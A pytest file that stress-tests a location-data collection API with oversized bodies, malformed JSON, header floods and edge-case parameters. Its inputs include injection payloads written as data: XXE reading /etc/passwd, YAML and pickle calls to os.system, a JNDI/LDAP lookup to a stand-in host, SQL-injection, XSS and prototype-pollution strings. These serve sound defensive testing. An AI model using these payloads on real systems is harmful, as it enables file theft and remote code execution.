"""Bodies that are too large, of no kind, of no encoding, or of numbers that no draft can hold."""

from __future__ import annotations

import gzip
import json
import time
from collections.abc import Iterator
from typing import Any, Final

import httpx
import pytest

from .addresses import operations, shaped, snapshot
from .wire import raw

LIMITS: Final = {"json_bytes": 3000, "report_bytes": 1000, "message_bytes": 2000, "query_bytes": 1500}
MOST: Final = {"report": 1000, "{phase}": 2000, "query": 1500}
SECONDS: Final = 60.0  # that any one request may take on a slow machine


def parts(count: int, size: int = 500) -> Iterator[bytes]:
    for _ in range(count):
        yield bytes(size)


@pytest.mark.parametrize("chunked", [False, True])
def test_a_body_past_the_limit_is_refused_wherever_it_goes(api_with: Any, chunked: bool) -> None:
    api = api_with(**LIMITS)
    collection = api.opened()
    (phone,) = api.phones(1)
    before, tried = snapshot(api.store), 0
    for operation in operations(api.client.get("/v1/openapi.json").json()):
        if not operation.options:
            continue
        most = MOST.get(operation.route.rsplit("/", 1)[1], 3000)
        headers = dict(operation.options.get("headers", {"Content-Type": "application/json"}))
        path = operation.path(collection)
        if operation.schemes == {"device"}:
            # What is signed is the whole body: it never gets so far.
            from mapveil_client.secure_sum.keys import authorization

            signed = (phone.identity, phone.number, operation.method, path, bytes(most + 500))
            headers["Authorization"] = authorization(*signed)
        elif operation.schemes:
            headers["Authorization"] = f"Bearer {api.tokens['admin']}"
        content: Any = parts(most // 500 + 1) if chunked else bytes(most + 500)
        answer = api.client.request(operation.method, path, content=content, headers=headers)
        assert (answer.status_code, shaped(answer)) == (413, "too-large"), operation
        assert str(most) in answer.text
        tried += 1
    assert tried >= 8
    assert snapshot(api.store) == before


def test_a_body_without_end_is_cut_off_at_the_limit(api: Any) -> None:
    sent = 0

    def endless() -> Iterator[bytes]:
        nonlocal sent
        while sent < 1 << 30:
            sent += 1 << 16
            yield bytes(1 << 16)

    try:
        answer = api.ask("POST", "/v1/collections", content=endless())
    except httpx.TransportError:
        pass  # the connection is closed while we still write
    else:
        assert (answer.status_code, shaped(answer)) == (413, "too-large")
    assert sent < 1 << 26
    assert api.client.get("/healthz").status_code == 200


@pytest.mark.parametrize("declared", [b"99999999999999999999999999", b"18446744073709551616", b"9" * 4000])
def test_a_length_that_no_machine_holds_is_refused(api: Any, declared: bytes) -> None:
    reply = raw(
        api.address,
        b"POST /v1/devices HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\n"
        b"Content-Length: " + declared + b"\r\n\r\n",
    )
    assert (reply.status, reply.code) in ((400, "malformed"), (413, "too-large"))


def test_reading_addresses_take_no_bodies_of_any_size(api: Any) -> None:
    """A body of a GET is read past or refused; it never counts."""
    for path in ("/v1/open", "/v1/me", "/healthz", "/", "/v1/openapi.json"):
        answer = api.ask("GET", path, content=bytes(5 << 20))
        assert answer.status_code in (200, 413)
        assert api.ask("GET", path).status_code == 200


NESTED: Final = 100_000
NO_JSON: Final[dict[str, bytes]] = {
    "nothing": b"",
    "a word": b"null",
    "a number": b"7",
    "a text": b'"title"',
    "a list": b"[]",
    "an open brace": b"{",
    "two objects": b"{}{}",
    "UTF-16 without an end": '{"name":"n"}'.encode("utf-16")[:-3],
    "UTF-8 with a mark": b'\xef\xbb\xbf{"name":"n","role":"viewer"}',
    "no UTF-8": b'{"name":"\xff\xfe"}',
    "half a character": b'{"name":"\xe2\x82"}',
    "surrogates in UTF-8": b'{"name":"\xed\xa0\x80"}',
    "half a surrogate pair": b'{"name":"\\ud800"}',
    "a zero": b'{"name":"a\\u0000b"}',
    "zeros": bytes(500),
    "deep lists": b"[" * NESTED + b"]" * NESTED,
    "deep objects": b'{"a":' * NESTED + b"1" + b"}" * NESTED,
    "a long number": b'{"name":"n","uses":' + b"9" * 100_000 + b"}",
    "a number with an exponent": b'{"name":"n","uses":1e999999999}',
    "not a number": b'{"name":"n","uses":NaN}',
    "without end": b'{"name":"n","uses":Infinity}',
    "many keys": b"{" + b",".join(b'"k%d":1' % each for each in range(50_000)) + b"}",
    "one key often": b"{" + b",".join([b'"name":"n"'] * 50_000) + b',"uses":[]}',
    "a prototype": b'{"__proto__":{"role":"admin"},"constructor":{"prototype":{}},"name":5}',
    "a comment": b'{"name":"n"/* */}',
    "single quotes": b"{'name':'n'}",
    "a form": b"name=n&uses=1",
    "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "YAML": b"!!python/object/apply:os.system ['true']",
    "a pickle": b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94.",
    "a zip": gzip.compress(b'{"name":"n"}'),
}


@pytest.mark.parametrize("name", NO_JSON)
def test_what_is_no_json_of_the_right_shape_is_told_so(api: Any, name: str) -> None:
    body = NO_JSON[name]
    collection = api.opened()
    before = snapshot(api.store)
    for operation in operations(api.client.get("/v1/openapi.json").json()):
        if "json" not in operation.options:
            continue
        if name == "UTF-8 with a mark" and operation.route == "/v1/operators":
            continue
        started = time.monotonic()
        answer = api.ask(
            operation.method,
            operation.path(collection),
            content=body,
            headers={"Content-Type": "application/json"},
        )
        assert shaped(answer) in ("malformed", "invalid", "too-large"), operation
        assert len(answer.content) < 3000
        assert time.monotonic() - started < SECONDS
    assert snapshot(api.store) == before


@pytest.mark.parametrize(
    "headers",
    [
        {"Content-Type": "text/plain"},
        {"Content-Type": "application/x-www-form-urlencoded"},
        {"Content-Type": "multipart/form-data; boundary=x"},
        {"Content-Type": "application/json; charset=utf-16"},
        {"Content-Type": ""},
        {"Content-Type": "application/json", "Content-Encoding": "gzip"},
        {"Content-Type": "application/json;" + " a=b;" * 1000},
        {"Content-Type": "application/cbor"},
        {"Content-Type": "a/" + "b" * 5000},
    ],
    ids=lambda headers: headers["Content-Type"].strip()[:40] or "none",
)
def test_a_body_that_claims_to_be_something_else_is_no_error_of_ours(
    api: Any, headers: dict[str, str]
) -> None:
    for content in (
        b'{"name":"n"}',
        b'--x\r\nContent-Disposition: form-data; name="name"\r\n\r\nn\r\n--x--\r\n',
    ):
        answer = api.ask("POST", "/v1/enrolment-tokens", content=content, headers=headers)
        assert answer.status_code in (201, 400, 415, 422)
        if answer.status_code != 201:
            shaped(answer)


def test_many_headers_and_strange_ones_are_read_past(api: Any) -> None:
    floods = [
        *([("X-A", "b")] * 400,),
        *([(f"X-{each}", "b") for each in range(400)],),
        *([("Cookie", "a=b;" * 500)],),
        *([("Accept-Encoding", "gzip;q=0,*;q=0," * 200)],),
        *([("Range", "bytes=" + ",".join(f"{each}-" for each in range(1000)))],),
        *([("If-None-Match", '"x"'), ("If-Modified-Since", "never"), ("Expect", "200-ok")],),
        *([("X-Forwarded-For", "' OR 1=1, ::1, unknown, 256.1.1.1"), ("X-Forwarded-Proto", "gopher")],),
        *([("Host", "elsewhere.example:99999"), ("Forwarded", "for=_x;proto=;by=")],),
        *([("Origin", "https://elsewhere.example"), ("Access-Control-Request-Method", "DELETE")],),
        *([("X-Request-Id", "a\tb" * 100), ("X-HTTP-Method-Override", "DELETE"), ("Upgrade", "h2c")],),
        *([("User-Agent", "${jndi:ldap://elsewhere.example/a}"), ("Referer", "<script>alert(1)</script>")],),
    ]
    for flood in floods:
        for path in ("/v1/open", "/", "/assets/console.css", "/healthz"):
            answer = api.client.get(path, headers=flood)
            assert answer.status_code in (200, 206, 304, 400, 416, 417), (path, flood[0], answer.text[:200])
            assert "access-control-allow-origin" not in answer.headers
            assert "elsewhere.example" not in str(answer.headers)
            assert answer.headers["x-request-id"] != "a\tb" * 100
    reply = raw(
        api.address,
        b"GET / HTTP/1.1\r\nHost: x\r\n" + b"".join(b"X-%d: b\r\n" % n for n in range(20_000)) + b"\r\n",
    )
    assert (reply.status, reply.code) == (431, "too-large")
    assert api.client.get("/healthz").status_code == 200


DRAFT: Final[dict[str, Any]] = {
    "title": "t",
    "trust": "distributed",
    "epsilon": "1",
    "region": [-74.03, 40.69, -73.9, 40.83],
    "tiling": "quadtree:3",
    "devices": 24,
    "accept_custom_policy": True,
}
HUGE: Final = 10**400
NUMBERS: Final = (
    0,
    -1,
    1,
    2,
    3,
    1 << 31,
    1 << 53,
    1 << 63,
    HUGE,
    1e308,
    5e-324,
    -0.0,
    0.5,
    1 - 2**-53,
    True,
    None,
    "1",
    "",
)
REGIONS: Final = (
    [0, 0, 0, 0],
    [0, 0, 1e-300, 1e-300],
    [-180, -90, 180, 90],
    [179, -1, -179, 1],
    [1, 1, 0, 0],
    [0, 89.9999999, 1, 90],
    [1e308, 1e308, 1e308, 1e308],
    [HUGE, 0, HUGE + 1, 1],
    [0, 0, 1],
    [[0, 0], [1, 1]],
    {"type": "Polygon", "coordinates": [[[0, 0], [1, 0], [1, 1], [0, 1], [0, 0]]]},
    {"type": "Polygon", "coordinates": [[[0, 0], [1, 0], [1, 1], [0.5, 1], [0, 0]]]},
    {"type": "Polygon", "coordinates": [[[0, 0]] * 5]},
    {"type": "Feature", "geometry": None},
)
TILINGS: Final = (
    *("quadtree:0", "quadtree:12", "quadtree:99", "grid:0x0", "grid:1x1", "grid:99999x99999", "grid:1x99999"),
    *("tiles:0", "tiles:30", "tiles:99"),
    *("places:/etc/passwd", "h3:9", "quadtree:8; DROP", "quadtree:\u0663", "quadtree:-1", ""),
    {"kind": "places", "lon": [0, 0], "lat": [0, 0]},
    {"kind": "places", "lon": [-74, -73.95], "lat": [40.7, 40.75], "max_distance_m": 1e-300},
    {"kind": "places", "lon": [-74, -73.95], "lat": [40.7, 40.75], "names": ["a", "\x00"]},
    {"kind": "places", "lon": [1e308, 1], "lat": [1, 1]},
)  # fmt: skip
EPSILONS: Final = (
    "0",
    "1/0",
    "0/1",
    "1e9",
    "9" * 20,
    "0." + "0" * 29 + "1",
    "1/" + "9" * 30,
    "-1",
    "nan",
    "\u0661",
    1e-320,
    1e308,
    10_000,
    HUGE,
)
OPTIONS: Final = {
    "distributed": ("shard_size", "tolerated_dropout", "corrupt", "scale", "bits", "rounding", "rounds", "xyz"),
    "local": ("outside", "levels", "buckets", "hash_range", "radius_m", "xyz"),
    "random-features": ("bandwidth_m", "features", "bands", "kernel", "jitter_m", "xyz"),
}  # fmt: skip


def drafts() -> Iterator[dict[str, Any]]:
    """Drafts at and past every edge."""
    for region in REGIONS:
        for tiling in ("quadtree:3", "tiles:12", "tiles:13"):
            yield {**DRAFT, "region": region, "tiling": tiling}
    for tiling in TILINGS:
        for trust in OPTIONS:
            yield {
                **DRAFT,
                "tiling": tiling,
                "trust": trust,
                "epsilon": None if trust == "random-features" else "1",
            }
    for epsilon in EPSILONS:
        yield {**DRAFT, "epsilon": epsilon}
        yield {**DRAFT, "epsilon": epsilon, "trust": "local"}
    for name in ("devices", "minimum", "join_seconds", "phase_seconds", "active"):
        for number in NUMBERS:
            yield {**DRAFT, name: number}
    for trust, names in OPTIONS.items():
        for name in names:
            for number in (*NUMBERS, "public", "x" * 300):
                epsilon = None if trust == "random-features" else "1"
                yield {**DRAFT, "trust": trust, "epsilon": epsilon, "options": {name: number}}
    for method in ("", "nothing", "laplace", "adaptive", "grr", "fourier-kde", "kde", "__init__", "x" * 60):
        for trust in OPTIONS:
            yield {
                **DRAFT,
                "trust": trust,
                "method": method,
                "epsilon": None if trust == "random-features" else "1",
            }
    yield {**DRAFT, "devices": 1 << 24, "tiling": "quadtree:10"}
    yield {**DRAFT, "devices": 1 << 24, "options": {"shard_size": 3}}
    yield {**DRAFT, "devices": 1 << 24, "options": {"shard_size": 1 << 24}}


def test_drafts_at_every_edge_are_made_or_refused_and_soon(api: Any) -> None:
    made, refused, slow = 0, 0, []
    for spec in drafts():
        given = {key: value for key, value in spec.items() if value is not None or key == "epsilon"}
        started = time.monotonic()
        answer = api.ask(
            "POST",
            "/v1/collections",
            content=json.dumps(given).encode(),
            headers={"Content-Type": "application/json"},
        )
        seconds = time.monotonic() - started
        if seconds > SECONDS:
            slow.append((round(seconds, 1), given))
        if answer.status_code == 201:
            made += 1
            collection = answer.json()["id"]
            assert api.ask("POST", f"/v1/collections/{collection}/open").status_code == 200
            assert api.client.get(f"/v1/collections/{collection}/terms").status_code == 200
            api.ask("POST", f"/v1/collections/{collection}/abort", json={"reason": "r"})
        else:
            assert answer.status_code == 422, (given, answer.text)
            assert shaped(answer) == "invalid"
            refused += 1
    assert not slow
    assert made > 50
    assert refused > 150
